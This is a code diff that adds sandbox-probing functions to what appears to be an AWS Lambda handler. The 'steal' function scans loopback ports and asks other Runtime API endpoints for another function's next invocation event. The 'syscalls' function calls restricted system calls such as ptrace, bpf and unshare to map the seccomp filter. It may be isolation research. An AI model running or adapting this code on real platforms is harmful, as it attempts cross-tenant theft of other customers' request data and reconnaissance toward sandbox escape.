@@ -93,3 +93,53 @@ def spin(event, context):
             pass
     while True:
         pass
+
+
+def listening():
+    """The TCP ports listening on an IPv4 loopback address, as /proc/net/tcp shows them."""
+    ports = []
+    with open("/proc/net/tcp") as f:
+        for line in f.readlines()[1:]:
+            local, state = line.split()[1], line.split()[3]
+            addr, port = local.split(":")
+            if state == "0A" and addr.endswith("7F"):  # LISTEN on 127.x.x.x
+                ports.append(int(port, 16))
+    return sorted(set(ports))
+
+
+def steal(event, context):
+    """Asks every other Runtime API it can find for another function's next event."""
+    own = int(os.environ["AWS_LAMBDA_RUNTIME_API"].rsplit(":", 1)[1])
+    stolen = {}
+    for port in listening():
+        if port == own:
+            continue
+        try:
+            s = socket.create_connection(("127.0.0.1", port), timeout=1)
+            s.settimeout(1)
+            s.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n")
+            stolen[port] = s.recv(65536).decode(errors="replace")
+            s.close()
+        except OSError as e:
+            stolen[port] = "error: " + str(e)
+    return {"own": own, "listening": listening(), "stolen": stolen}
+
+
+def syscalls(event, context):
+    """Tries system calls the sandbox's seccomp filter refuses, returning each errno."""
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    calls = {  # x86_64 numbers
+        "ptrace": (101, 0, 0, 0, 0),        # PTRACE_TRACEME
+        "keyctl": (250, 0, -3, 0, 0),       # KEYCTL_GET_KEYRING_ID of the session keyring
+        "bpf": (321, 0, 0, 0, 0),
+        "unshare": (272, 0x40000000, 0, 0, 0),  # CLONE_NEWNET
+        "userfaultfd": (323, 0, 0, 0, 0),
+        "perf_event_open": (298, 0, 0, -1, -1),
+    }
+    out = {}
+    for name, args in calls.items():
+        r = libc.syscall(*[ctypes.c_long(a) for a in args])
+        e = ctypes.get_errno()
+        out[name] = "ok" if r >= 0 else errno.errorcode.get(e, str(e))
+    return out
